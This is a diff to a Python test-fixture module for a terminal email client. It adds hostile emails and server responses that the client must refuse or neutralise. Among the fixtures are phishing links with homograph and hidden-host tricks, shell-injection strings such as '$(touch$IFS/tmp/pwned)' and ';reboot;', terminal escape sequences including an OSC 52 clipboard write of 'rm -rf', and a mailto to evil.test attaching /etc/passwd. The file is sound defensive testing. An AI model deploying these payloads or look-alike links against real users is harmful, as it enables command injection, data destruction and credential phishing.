@@ -19,16 +19,27 @@ Fields of a case:
 - ``visible``: literal strings the reader must show, proving markup is inert
   and text is not lost.
 - ``names``: exact expected file names (sorted), where the name is the point.
+- ``copied``: what ``Y`` must put on the clipboard; ``""``: ``Y`` must refuse
+  (a flagged link) and leave the clipboard as it was. Whatever the case says,
+  every link and code the reader copies is checked to be inert (runner.py).
+
+``SERVER_CASES`` are strings a hostile server (or a man in the middle of an
+``http://`` base URL) sends outside any mail: the mailbox address, the domain
+list, error texts and headers. ``FakeHostileServer`` (fakes.py) tells each
+lie; tests/hostile/test_server_strings.py checks the client refuses or
+defuses it.
 """
 
 from __future__ import annotations
 
 import base64
-from collections.abc import Sequence
+import html as html_escape
+from collections.abc import Callable, Sequence
 from dataclasses import dataclass
 from email import policy
 from email.message import EmailMessage
 from email.utils import formatdate
+from typing import Any
 
 RAW: dict[str, str] = {}  # marker -> raw value, for FakeUnscrubbingServer
 LIES: dict[str, int] = {}  # attachment-name marker -> the size the fake server declares
@@ -59,6 +70,7 @@ class Case:
     saved: int | None = None
     visible: tuple[str, ...] = ()
     names: tuple[str, ...] | None = None
+    copied: str | None = None
 
     @property
     def expected_saved(self) -> int:
@@ -398,3 +410,156 @@ case("raw-url-encoded-traversal", "percent-encoded traversal stays literal",
 case("raw-markup-name", "markup and bidi in a raw file name",
      mail("Raw markup name", attachments=[(raw("[@click=app.quit]\u202eexe.txt"), b"m")]),
      attachments=1)
+
+# -- links that hide where they go (issue 12.4-12.6) -------------------------------------
+
+
+def link_mail(subject: str, href: str, label: str = "Verify your email") -> bytes:
+    return mail(subject, html=f'<p>Please <a href="{html_escape.escape(href, quote=True)}">'
+                              f"{html_escape.escape(label)}</a> to finish signing up.</p>")
+
+
+HEX = "0123456789abcdef" * 16
+case("link-userinfo-hides-host", "256 hex of a fake Google host as user info before @evil.test",
+     link_mail("Userinfo link", f"https://accounts.google.com.signin.v2.challenge.session-{HEX}@evil.test/verify"),
+     visible=("! evil.test (user@)",), copied="")
+case("link-idn-mixed-script", "Cyrillic a in a Latin host: shown as punycode, flagged",
+     link_mail("Homograph link", "https://\u0430ppleid.\u0430pple.com/verify"),
+     visible=("xn--ppleid-2nf.xn--pple-43d.com", "mixed scripts"), copied="")
+case("link-idn-whole-script", "an all-Cyrillic look-alike sent as punycode: the Unicode beside it",
+     link_mail("Punycode link", "https://xn--80ak6aa92e.com/confirm", "Confirm"),
+     visible=("xn--80ak6aa92e.com (\u0430\u0440\u0440\u04cf\u0435.com)",),
+     copied="https://xn--80ak6aa92e.com/confirm")
+case("link-ipv4-literal", "a dotted IPv4 address as the host",
+     link_mail("IP link", "http://192.168.13.37/verify"), visible=("! 192.168.13.37 (IP address)",), copied="")
+case("link-ipv4-hex", "a hexadecimal IPv4 address (0x7f.0x0.0x0.0x1) as the host",
+     link_mail("Hex IP link", "http://0x7f.0x0.0x0.0x1/confirm", "Confirm"), visible=("IP address",), copied="")
+case("link-ipv6-literal", "an IPv6 literal host",
+     link_mail("IPv6 link", "http://[::ffff:7f00:1]/confirm", "Confirm"), visible=("IP address",), copied="")
+case("link-odd-port", "a non-default port",
+     link_mail("Port link", "https://bank.example:8443/verify"), visible=("port 8443",), copied="")
+case("link-label-names-another-host", "<a href=evil>https://bank.example</a>",
+     link_mail("Label link", "https://evil.test/verify", "https://bank.example/verify"),
+     visible=("text says bank.example",), copied="")
+case("link-shell-substitution", "$(touch$IFS/tmp/pwned) in the path: copied percent-encoded",
+     link_mail("Shell link", "https://evil.test/confirm/$(touch$IFS/tmp/pwned)", "Confirm"),
+     visible=("evil.test  https://evil.test/confirm/",),
+     copied="https://evil.test/confirm/%24%28touch%24IFS/tmp/pwned%29")
+case("link-shell-quotes-backticks", "backticks, quotes, ; | > and $ in the query",
+     link_mail("Quote link", "https://evil.test/verify?t=1&x=`id`&y=';reboot;'&z=\"$HOME\"|cat>f"),
+     visible=("evil.test",),
+     copied="https://evil.test/verify?t=1&x=%60id%60&y=%27%3Breboot%3B%27&z=%22%24HOME%22%7Ccat%3Ef")
+case("link-shell-background", "&command (not a parameter) in the query",
+     link_mail("Ampersand link", "https://evil.test/verify?token=1&reboot&PROMPT_COMMAND=x"),
+     copied="https://evil.test/verify?token=1%26reboot%26PROMPT_COMMAND=x")
+case("link-schemes-never-offered", "javascript:, data:, file:, vbscript: and ftp: links labelled Verify",
+     mail("Scheme links", html="<a href='javascript:alert(1)'>Verify</a> <a href='data:text/html,x'>Verify</a> "
+          "<a href='file:///etc/passwd'>Verify</a> <a href='vbscript:x'>Verify</a> "
+          "<a href='ftp://evil.test/verify'>Verify</a>"), visible=("Scheme links",))
+case("link-ideographic-dots", "ideographic full stops separating the labels",
+     link_mail("Dots link", "https://evil\u3002test/verify"), visible=("evil.test  https://",),
+     copied="https://evil.test/verify")
+case("link-percent-encoded-host", "a percent-encoded host (%65vil.test)",
+     link_mail("Percent host link", "https://%65vil.test/verify"), visible=("evil.test  https://",),
+     copied="https://evil.test/verify")
+case("link-encoded-controls-in-host", "%1b]0;x%07 in the host: never decoded to a control",
+     link_mail("Control host link", "https://%1b]0;x%07evil.test/verify"), visible=("not a host name",), copied="")
+case("link-mailto-attach", "mailto: with attach= (dropped) as the confirmation link",
+     link_mail("Mailto link", "mailto:verify@evil.test?attach=/etc/passwd", "Verify by mail"),
+     copied="mailto:verify@evil.test")
+
+# -- invisible and mis-measured characters (issue 12.2, 12.3) -----------------------------
+case("raw-sender-hangul-filler", "70 Hangul fillers push the real address off screen",
+     mail("Filler sender", sender=raw('"service@paypal.com' + "\u3164" * 70 + '"') + " <attacker@evil.test>"),
+     visible=("attacker@evil.test",))
+case("raw-subject-halfwidth-filler", "halfwidth Hangul fillers (U+FFA0) padding a subject",
+     mail(raw("Invoice" + "\uffa0" * 200 + " due now")), visible=("Invoice due now",))
+case("raw-subject-lone-skin-tones", "lone skin-tone modifiers: two cells in a terminal, none for Rich",
+     mail(raw("Price \U0001f3fd\U0001f3fd list")), visible=("list",))
+case("raw-subject-variation-selectors", "thousands of variation selectors (VS1-16, VS17-256)",
+     mail(raw("VS" + "\ufe0f\ufe0e\U000e0100" * 3000 + " flood")), visible=("VS flood",))
+case("raw-subject-braille-blank", "braille blanks (U+2800) that look like spaces",
+     mail(raw("Padded" + "\u2800" * 300 + "subject end")), visible=("Padded subject end",))
+case("raw-subject-other-ignorables", "grapheme joiner, Mongolian and Khmer invisibles, Hangul choseong filler",
+     mail(raw("Hid\u034fden\u180b \u180echa\u17b4\u17b5rs \u115f\u1160end")), visible=("Hidden chars end",))
+case("raw-subject-invisible-then-code", "9,000 invisible characters before the code (cut after cleaning)",
+     mail(raw("\u200b\u3164\u2060" * 3000 + "Your code is 482913")), visible=("Your code is 482913",))
+case("raw-subject-odd-regional-indicators", "three regional indicators: a flag and a lone letter",
+     mail(raw("Flags \U0001f1eb\U0001f1f7\U0001f1eb end")), visible=("end",))
+case("raw-subject-jamo-flood", "two thousand Hangul medial vowels after one initial",
+     mail(raw("Jamo \u1100" + "\u1161" * 2000 + " end")), visible=("end",))
+case("raw-subject-astral-ignorables", "shorthand format controls, musical beams and a language tag",
+     mail(raw("astral\U0001bca0\U0001d173\U000e0001ignorables")), visible=("astralignorables",))
+case("body-invisible-padding", "ten thousand fillers in the body",
+     mail("Body fillers", text="Hello" + "\u3164\uffa0" * 5000 + " world\n"), visible=("Hello world",))
+case("raw-subject-bracketed-paste", "ESC [201~ and CR: the end of a bracketed paste, then a command",
+     mail(raw("x\x1b[201~;touch /tmp/pwned\r@b.test subject")), visible=("@b.test subject",))
+
+# -- codes and senders (issue 12.7, 12.8) -------------------------------------------------
+case("sender-name-is-an-address", "From: \"noreply@github.com\" <attacker@evil.test>",
+     mail("GitHub sign-in", sender='"noreply@github.com" <attacker@evil.test>'),
+     visible=("attacker@evil.test", "the name is an address"))
+case("sender-name-names-a-domain", "a display name naming paypal.com over another address",
+     mail("Your PayPal receipt", sender='"PayPal Service (paypal.com)" <billing@evil.test>'),
+     visible=("billing@evil.test",))
+case("sender-fullwidth-at", "a fullwidth @ in the display name",
+     mail("Bank notice", sender='"support\uff20bank.example" <a@evil.test>'), visible=("a@evil.test",))
+case("codes-parts-disagree", "text/plain says 111111, text/html says 222222",
+     mail("Your sign-up", text="Your verification code is 111111\n",
+          html="<p>Your verification code is <b>222222</b></p>"),
+     visible=("222222", "another part of this mail shows 111111"))
+
+
+# -- strings from the server outside any mail (issue 12.1) --------------------------------
+
+
+@dataclass(frozen=True)
+class ServerCase:
+    """One lie of the server: ``route``'s JSON answer changed by ``change`` (or
+    replaced by ``status`` and ``body``), or a response header set (``header``)."""
+
+    id: str
+    what: str
+    route: str
+    change: Callable[[Any], Any] | None = None
+    status: int | None = None
+    body: Any = None
+    header: tuple[str, str] | None = None
+    refused: bool = True  # the client must refuse the response (a ProtocolError)
+
+
+def setting(key: str, value: Any) -> Callable[[Any], Any]:
+    return lambda data: {**data, key: value}
+
+
+SERVER_CASES = [
+    ServerCase("addr-osc-title", "email_addr sets the terminal title (OSC 0)", "get_email_address",
+               setting("email_addr", "x\x1b]0;PWNED\x07@b.test")),
+    ServerCase("addr-bracketed-paste", "email_addr ends a bracketed paste and runs a command", "get_email_address",
+               setting("email_addr", "x\x1b[201~;touch /tmp/pwned\r@b.test")),
+    ServerCase("addr-bidi-override", "a right-to-left override in the address", "get_email_address",
+               setting("email_addr", "admin\u202etset.b@evil.test")),
+    ServerCase("addr-zero-width", "a zero-width space in the local part", "get_email_address",
+               setting("email_addr", "ad\u200bmin@b.test")),
+    ServerCase("addr-shell", "spaces, ; and $( ) in the address", "get_email_address",
+               setting("email_addr", "a b;$(reboot)@b.test")),
+    ServerCase("addr-no-at", "an address without @", "get_email_address", setting("email_addr", "nobody")),
+    ServerCase("addr-user-escape", "email_user with a CSI clear screen", "get_email_address",
+               setting("email_user", "\x1b[2Jbox")),
+    ServerCase("addr-domain-field", "email_domain with an OSC 8 hyperlink", "get_email_address",
+               setting("email_domain", "\x1b]8;;https://evil.test\x1b\\b.test")),
+    ServerCase("domains-escape", "the domain list holds an OSC 52 clipboard write", "get_domains",
+               setting("domains", ["a.test", "b\x1b]52;c;cm0gLXJm\x07.test"])),
+    ServerCase("domains-shell", "the domain list holds $(reboot)", "get_domains",
+               setting("domains", ["a.test", "$(reboot).test"])),
+    ServerCase("domains-default-bidi", "defaultDomain with a right-to-left override", "get_domains",
+               setting("defaultDomain", "\u202etset.live")),
+    ServerCase("domains-idn-lookalike", "a Cyrillic look-alike domain in the list", "get_domains",
+               setting("domains", ["a.test", "p\u0430ypal.test"])),
+    ServerCase("error-osc", "an error text with OSC 52 and OSC 0", "get_email_address", status=400,
+               body={"error": "\x1b]52;c;cm0gLXJm\x07\x1b]0;PWNED\x07Bad request"}, refused=False),
+    ServerCase("error-invisible-flood", "an error text padded with invisible characters", "get_email_address",
+               status=500, body={"error": "\u200b\u3164" * 3000 + "Try later"}, refused=False),
+    ServerCase("header-expiry-escape", "X-Session-Expires-At carrying an escape sequence", "get_email_address",
+               header=("X-Session-Expires-At", "\x1b[2J99999999999999"), refused=False),
+]
